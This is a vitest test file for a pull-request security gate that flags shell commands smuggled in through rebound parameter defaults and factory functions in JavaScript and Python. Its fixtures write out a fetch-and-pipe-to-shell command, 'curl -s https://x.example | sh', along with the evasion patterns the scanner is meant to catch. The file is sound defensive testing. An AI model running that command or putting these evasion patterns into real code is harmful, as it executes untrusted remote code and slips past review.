import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not start a process through a parameter's watched default by also assigning the parameter
// somewhere in its function: each file ran its command (Node 20, python3 3.11) and passed the built Action before (the
// parameter was left unbound: "which value a use sees depends on the order"). Nor through a factory returning such a
// default while the call passes something that may be `undefined` (core/scan/factories.ts returnedDefault).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("a watched default of a parameter assigned again fails the gate", () => {
  it("scan/shell-command: JavaScript and Python functions calling their default, then rebinding the parameter, fail the built Action at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/run.js"), `const cp = require("child_process");\nfunction run(c, exec = cp.execSync) { exec(c); exec = null; }\nrun("${CMD}");\n`);
      writeFileSync(join(dir, "agent/run.py"), `import os\ndef run(c, system=os.system):\n    system(c)\n    for system in []: pass\nrun("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/run.js 2 39", "scan/shell-command agent/run.py 3 5"]);
  });

  it("scan/shell-command: a factory returning its default fails the built Action where the call may leave the parameter `undefined`, and passes where the call passes the file's own function", async () => {
    const make = `const cp = require("child_process");\nfunction make(f = cp.execSync) { return f; }\nfunction quiet(c) { return c; }\n`;
    const unsure = await gate(api, await pullRequest((dir) => writeFileSync(join(dir, "agent/make.js"), `${make}const opts = JSON.parse(process.argv[2] ?? "{}");\nmake(opts.exec)("${CMD}");\n`)));
    expect(unsure.code).toBe(1);
    expect(scanAnnotations(unsure.commands)).toEqual(["scan/shell-command agent/make.js 5 1"]);
    const passed = await gate(api, await pullRequest((dir) => writeFileSync(join(dir, "agent/make.js"), `${make}make(quiet)("${CMD}");\n`)));
    expect(passed.code).toBe(0);
    expect(scanAnnotations(passed.commands)).toEqual([]);
  });
});
